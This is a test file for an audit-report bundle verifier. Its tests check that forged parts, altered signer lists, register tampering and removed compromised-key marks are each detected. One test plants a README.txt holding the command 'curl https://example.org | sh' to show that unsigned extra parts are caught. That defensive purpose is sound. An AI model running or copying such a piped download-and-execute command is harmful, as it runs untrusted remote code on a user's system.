import { join } from 'node:path';
import { generateIdentity, identityToRecipient } from 'age-encryption';
import { beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { sealChain } from '../../src/audit/seal/seal.ts';
import { canonicalJson } from '../../src/canonical-json.ts';
import { readSshKeyFile } from '../../src/keys/ssh-key.ts';
import { NAMESPACES, signSshsig } from '../../src/keys/sshsig.ts';
import { changeRegister } from '../../src/persons/change.ts';
import { makeBundle } from '../../src/reports/bundle/bundle.ts';
import { distributeReport } from '../../src/reports/bundle/distribute.ts';
import { redrawFinalPdf } from '../../src/reports/bundle/redraw.ts';
import { verifyBundle } from '../../src/reports/bundle/verify-bundle.ts';
import { parseModel } from '../../src/reports/model/read.ts';
import { decisionsText } from '../../src/reports/parts/bundle-content.ts';
import { unpackBundle } from '../../src/reports/parts/bundle-format.ts';
import { renderPdf } from '../../src/reports/render/pdf.ts';
import { entryOf } from '../../src/reports/workflow/decision-entry.ts';
import type { Roster } from '../persons/roster.ts';
import type { TestContext } from '../support/context.ts';
import { useDatabase } from '../support/database.ts';
import { approveBundle, knownSeal, partText, repackBundle, reportJson, reportShape } from './approved-bundle.ts';

const db = useDatabase();
let ctx: TestContext;
let roster: Roster;
let folder: string;
let reportId: string;
let zip: Buffer;

beforeAll(async () => {
  ({ ctx, roster, folder, reportId, zip } = await approveBundle(db));
});

const textOf = (name: string) => partText(zip, name);
const repack = (change: (parts: Map<string, Uint8Array>) => void) => repackBundle(zip, change);

describe('what an insider forges', () => {
  test.each([
    ['model.json', 'model.json'],
    ['review.pdf', 'review.pdf'],
    ['final.pdf', 'final.pdf'],
    ['decisions.json', 'decisions.json'],
    ['oscal/assessment-results.json', 'oscal/assessment-results.json'],
    ['oscal/poam.json', 'oscal/poam.json'],
    ['decisions/05-approve.json', 'decisions/05-approve.json'],
    ['decisions/05-approve.json.sig', 'decisions/05-approve.json'],
    ['decisions/02-reject.comment.txt', 'decisions/02-reject.json'],
  ])('a changed %s is found when manifest and digests were made anew', async (changed, named) => {
    const forged = repack((parts) => {
      const bytes = Buffer.from(parts.get(changed) ?? '');
      bytes[120 % bytes.length] = (bytes[120 % bytes.length] ?? 0) ^ 1;
      parts.set(changed, bytes);
    });
    const { valid, findings } = await verifyBundle(forged, null);
    expect(valid).toBe(false);
    // A text that is no longer canonical has lost its name.
    const names = findings.map((finding) => finding.part);
    expect(names.some((name) => name === named || (changed.endsWith('.json') && name === 'decisions'))).toBe(true);
  });

  test.each([
    ['generatedBy', 'somebody@example.org'],
    ['interim', true],
  ])('a %s in report.json that nobody signed is found', async (field, value) => {
    const forged = repack((parts) => {
      const report = reportShape.parse(JSON.parse(textOf('report.json')));
      const versions = report.versions.map((version) => ({ ...version, [field]: value }));
      parts.set('report.json', Buffer.from(JSON.stringify({ ...report, versions })));
    });
    const { valid, findings } = await verifyBundle(forged, null);
    expect(valid).toBe(false);
    expect(findings.map(({ what }) => what)).toContain('it was signed for another report or version');
  });

  test('a name that its person did not sign is found, final.pdf drawn anew or not', async () => {
    const { decisions } = await verifyBundle(zip, null);
    const renamed = decisions.map((decision) => ({ ...decision, name: 'Somebody Else, CPA' }));
    const model = parseModel(Buffer.from(unpackBundle(zip).get('model.json') ?? ''));
    const finalPdf = await renderPdf(model, renamed.map(entryOf));
    const forged = repack((parts) => {
      parts.set('decisions.json', Buffer.from(decisionsText(renamed)));
      parts.set('final.pdf', finalPdf);
    });
    const { findings } = await verifyBundle(forged, null);
    expect(findings).toContainEqual({ part: 'decisions.json', what: 'is not the list of the signed decisions' });
  });

  test.each([
    ['opinion.pdf', '%PDF unqualified opinion'],
    ['decisions/09-second-approval.txt', 'approved twice'],
    ['decisions/99-approve.json.sig', 'x'],
    ['README.txt', 'curl https://example.org | sh'],
    ['allowed_signers', 'mallory@example.org ssh-ed25519 AAAA'],
  ])('a part %s that follows from nothing signed is found', async (name, text) => {
    const forged = repack((parts) => parts.set(name, Buffer.from(text)));
    const check = await verifyBundle(forged, textOf('allowed_signers'));
    expect(check.outcome).toBe('invalid');
    expect(check.findings.map(({ part }) => part)).toContain(name);
  });

  test('an allowed_signers of further keys, or of other times, is found', async () => {
    const list = textOf('allowed_signers');
    for (const other of [
      `${list}mallory${list.slice(list.indexOf('@'))}`,
      list.replace(/^officer1.*\n/m, ''),
      list.replaceAll('valid-after="2', 'valid-after="9'),
    ]) {
      const forged = repack((parts) => parts.set('allowed_signers', Buffer.from(other)));
      const { findings } = await verifyBundle(forged, list);
      expect(findings.map(({ part }) => part)).toEqual(['allowed_signers']);
    }
  });

  test('a version that nobody decided on is found in report.json', async () => {
    const forged = repack((parts) => {
      const report = reportShape.parse(JSON.parse(textOf('report.json')));
      const state = { status: 'draft', reviewedBy: null, approvedBy: null };
      const invented = { ...report.versions[0], ...state, version: 7, id: '11111111-1111-4111-8111-111111111111' };
      parts.set('report.json', Buffer.from(JSON.stringify({ ...report, versions: [...report.versions, invented] })));
    });
    const { findings } = await verifyBundle(forged, textOf('allowed_signers'));
    expect(findings).toContainEqual({ part: 'report.json', what: 'lists a version that no decision is about' });
  });

  test('a final.pdf is not excused by a release that report.json alone names', async () => {
    const forged = repack((parts) => {
      const report = reportShape.parse(JSON.parse(textOf('report.json')));
      parts.set('report.json', Buffer.from(JSON.stringify({ ...report, engineVersion: '0.0.9' })));
      parts.set('final.pdf', Buffer.from('%PDF-1.7 all controls pass'));
    });
    const check = await verifyBundle(forged, textOf('allowed_signers'));
    expect(check).toMatchObject({ valid: false, outcome: 'invalid' });
    expect(check.findings).toContainEqual({ part: 'report.json', what: 'states another engineVersion than the model' });
  });

  test('a final.pdf that was not drawn again is not shown to be right', async () => {
    const other = await verifyBundle(zip, textOf('allowed_signers'), { ...knownSeal(zip), release: 'another release' });
    expect(other).toMatchObject({ valid: false, outcome: 'incomplete', finalPdf: 'not checked', findings: [] });
    expect(other.unchecked).toEqual([
      'final.pdf was not drawn again and may say anything',
      'the OSCAL documents were not made again and may say anything',
    ]);
  });

  test('an OSCAL document that is missing is found, and one beyond the two', async () => {
    const missing = repack((parts) => parts.delete('oscal/poam.json'));
    expect((await verifyBundle(missing, null)).findings).toEqual([{ part: 'oscal/poam.json', what: 'is missing' }]);
    const extra = repack((parts) => parts.set('oscal/catalog.json', Buffer.from('{}')));
    expect((await verifyBundle(extra, null)).findings).toContainEqual({
      part: 'oscal/catalog.json',
      what: 'is no part of a bundle',
    });
  });
});

describe('the register in a bundle', () => {
  const list = () => textOf('allowed_signers');

  /** The founding act with its changes altered and signed again by the officers, as they alone could. */
  async function refound(change: (act: z.infer<typeof actShape>) => void): Promise<Map<string, Buffer>> {
    const act = actShape.parse(JSON.parse(textOf('register/0001.json')));
    change(act);
    const payload = Buffer.from(canonicalJson(reportJson.parse(act)));
    const files = new Map([['register/0001.json', payload]]);
    for (const [index, officer] of ['officer1', 'officer2'].entries()) {
      const signature = await signSshsig(await readSshKeyFile(roster.keyFile(officer)), NAMESPACES.person, payload);
      files.set(`register/0001.json.${index + 1}.sig`, Buffer.from(signature));
    }
    return files;
  }
  const actShape = z.looseObject({ changes: z.array(z.looseObject({ kind: z.string(), email: z.string() })) });

  test('shows the roles to whoever knows the founders, and says so to others', async () => {
    expect(await verifyBundle(zip, list(), knownSeal(zip))).toMatchObject({ roles: 'given', outcome: 'valid' });
    expect(await verifyBundle(zip, null)).toMatchObject({ roles: 'bundled', outcome: 'incomplete' });
    const deciders = list().replace(/^officer.*\n/gm, '');
    expect(await verifyBundle(zip, deciders)).toMatchObject({
      roles: 'bundled',
      outcome: 'incomplete',
      signers: 'given',
    });
  });

  test('cannot be left out unseen', async () => {
    const forged = repack((parts) => {
      for (const name of [...parts.keys()]) if (name.startsWith('register/')) parts.delete(name);
    });
    const check = await verifyBundle(forged, list());
    expect(check).toMatchObject({ valid: false, roles: 'not checked' });
  });

  test.each([
    ['register/0001.json', 'register/0001.json'],
    ['register/0001.json.2.sig', 'register/0001.json'],
  ])('a changed %s is found when manifest and digests were made anew', async (changed, named) => {
    const forged = repack((parts) => {
      const bytes = Buffer.from(parts.get(changed) ?? '');
      bytes[200] = (bytes[200] ?? 0) ^ 1;
      parts.set(changed, bytes);
    });
    const { findings, roles } = await verifyBundle(forged, list());
    expect(findings.map(({ part }) => part)).toContain(named);
    expect(roles).toBe('bundled');
  });

  test('a decider who had another role is found', async () => {
    const files = await refound((act) => {
      act.changes = act.changes.filter((entry) => entry.email !== 'approver@example.org' || entry.kind !== 'role');
    });
    const forged = repack((parts) => {
      for (const [name, bytes] of files) parts.set(name, bytes);
    });
    const { findings } = await verifyBundle(forged, list());
    expect(findings).toContainEqual({ part: 'decisions/05-approve.json', what: 'its person was no approver' });
  });

  test('a key that the register does not give to its decider is found', async () => {
    const files = await refound((act) => {
      act.changes = act.changes.filter((entry) => entry.email !== 'approver@example.org' || entry.kind !== 'key');
    });
    const forged = repack((parts) => {
      for (const [name, bytes] of files) parts.set(name, bytes);
    });
    const { findings } = await verifyBundle(forged, list());
    expect(findings).toContainEqual({
      part: 'decisions/05-approve.json',
      what: 'its key was not a valid key of its person',
    });
  });

  test('a register of another name, or another installation, is found', async () => {
    const named = await refound((act) => {
      for (const entry of act.changes) if (entry.kind === 'person') entry['name'] = 'Somebody Else';
    });
    const moved = await refound((act) => {
      act['installation_id'] = '11111111-1111-4111-8111-111111111111';
    });
    for (const [files, what] of [
      [named, 'its person has another name'],
      [moved, 'does not hold: act 1: it belongs to another installation'],
    ] as const) {
      const forged = repack((parts) => {
        for (const [name, bytes] of files) parts.set(name, bytes);
      });
      expect((await verifyBundle(forged, list())).findings.map((finding) => finding.what)).toContain(what);
    }
  });

  test('a part beside the acts is found', async () => {
    const forged = repack((parts) => parts.set('register/0001.json.9.sig', Buffer.from('x')));
    const { findings } = await verifyBundle(forged, list());
    expect(findings).toContainEqual({ part: 'register/0001.json.9.sig', what: 'is no part of a bundle' });
  });

  test('a list of compromised keys that only reads the same when it is joined is another list', async () => {
    const report = reportShape.parse(JSON.parse(textOf('report.json')));
    expect(report['compromisedKeys']).toEqual([]);
    const text = canonicalJson(reportJson.parse({ ...report, compromisedKeys: [''] }));
    const { findings } = await verifyBundle(
      repack((parts) => parts.set('report.json', Buffer.from(text))),
      list(),
    );
    expect(findings).toContainEqual({ part: 'report.json', what: 'names other compromised keys than the register' });
  });

  test('a model that its own release cannot draw is told, not thrown', async () => {
    const model = reportJson.parse(JSON.parse(textOf('model.json')));
    const { engineVersion } = z.looseObject({ engineVersion: z.string() }).parse(model['generated']);
    const generated = { ...z.record(z.string(), z.json()).parse(model['generated']), at: 'never' };
    const text = canonicalJson({ ...model, generated });
    const parts = new Map(unpackBundle(zip)).set('model.json', Buffer.from(text));
    expect(await redrawFinalPdf(parts, [], engineVersion)).toBe('undrawable');
    expect(await redrawFinalPdf(parts, [], 'another release')).toBe('not checked');
  });

  test('a key that was compromised later is marked, and the mark cannot be removed', async () => {
    await sealChain(ctx);
    const { fingerprint } = (await readSshKeyFile(roster.keyFile('approver'))).publicKey;
    await changeRegister(ctx, {
      changes: [{ kind: 'key-end', email: 'approver@example.org', fingerprint, reason: 'compromised' }],
      officerKeyFiles: ['officer1', 'officer2'].map(roster.keyFile),
    });
    const sending = distributeReport(roster.as(ctx, 'approver'), {
      reportId,
      recipient: 'auditor@example.com',
      ageRecipient: await identityToRecipient(await generateIdentity()),
      purpose: 'annual audit',
      outDir: join(folder, 'ended'),
    });
    await expect(sending).rejects.toMatchObject({ code: 'PERSON_KEY_INVALID' });
    const marked = (await makeBundle(ctx, reportId)).zip;
    const parts = unpackBundle(marked);
    const report = reportShape.parse(JSON.parse(Buffer.from(parts.get('report.json') ?? '').toString('utf8')));
    expect(report['compromisedKeys']).toEqual([fingerprint]);
    const signers = Buffer.from(parts.get('allowed_signers') ?? '').toString('utf8');
    expect(await verifyBundle(marked, signers, knownSeal(zip))).toMatchObject({ outcome: 'valid' });
    // What was sealed does not change with what became known later.
    for (const name of ['final.pdf', 'decisions.json']) expect(parts.get(name)).toEqual(unpackBundle(zip).get(name));
    const forged = repack((all) => {
      for (const [name, bytes] of parts) if (!/^(?:manifest.json|digest.txt)$/.test(name)) all.set(name, bytes);
      all.set('report.json', Buffer.from(canonicalJson(reportJson.parse({ ...report, compromisedKeys: [] }))));
    });
    const { findings } = await verifyBundle(forged, signers);
    expect(findings).toContainEqual({ part: 'report.json', what: 'names other compromised keys than the register' });
  });
});
